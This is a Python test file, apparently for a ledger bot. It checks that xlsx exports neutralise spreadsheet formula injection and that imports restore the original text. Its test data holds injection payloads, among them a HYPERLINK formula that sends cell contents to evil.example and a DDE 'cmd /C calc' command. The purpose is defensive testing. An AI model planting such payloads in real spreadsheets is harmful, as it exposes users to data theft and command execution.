"""Issue 18 #1: text a member typed never becomes a formula in the exported 台账 (OWASP: a leading
= + - @ tab or CR is written behind a single quote), and the import reads the text back as typed."""

from __future__ import annotations

import datetime as dt

from openpyxl import load_workbook
from sqlalchemy import select

from bot.xlsx.cells import neutralise, restore
from storage import repo
from storage.models import Entry, Member, Unit
from xlsx_support import export, run_import, wipe

TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1", "-1", "@SUM(A1)", "=1+1",
          "\t=1+1", "\r=1+1"]


def test_neutralise_and_restore_are_inverse() -> None:
    for text in [*TITLES, "正常标题", "'引号开头", "'=已是文本", "", "1-1"]:
        assert restore(neutralise(text)) == text
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("正常标题") == "正常标题"
    assert neutralise(5) == 5


def test_export_has_no_formula_cells_and_round_trips(demo_db, tmp_path) -> None:
    with demo_db.session() as s:
        town = s.scalars(select(Unit).where(Unit.name == "城关镇")).one()
        zhang = s.scalars(select(Member).where(Member.name == "张三")).one()
        for i, title in enumerate(TITLES):
            repo.create_entry(s, zhang, unit_id=town.id, kind="document", direction="outgoing", title=title,
                              occurs_on=dt.date(2026, 11, 3 + i), counterpart="=cmd|' /C calc'!A0",
                              doc_number="-2+3", raw_text=f"今天发文《{title}》", created_by=zhang.id)
    path = tmp_path / "ledger.xlsx"
    export(demo_db, path)

    wb = load_workbook(path)
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for row in wb["文件"].iter_rows() for c in row if isinstance(c.value, str)]
    assert "'+1" in texts and "'-1" in texts and "'@SUM(A1)" in texts

    wipe(demo_db)
    result = run_import(demo_db, path)
    assert not getattr(result, "errors", None)
    with demo_db.session() as s:
        back = sorted(e.title or "" for e in s.scalars(select(Entry).where(Entry.doc_number == "-2+3")))
        counterparts = {e.counterpart for e in s.scalars(select(Entry).where(Entry.doc_number == "-2+3"))}
    assert back == sorted(t.strip() for t in TITLES)  # the import strips surrounding blanks, as always
    assert counterparts == {"=cmd|' /C calc'!A0"}
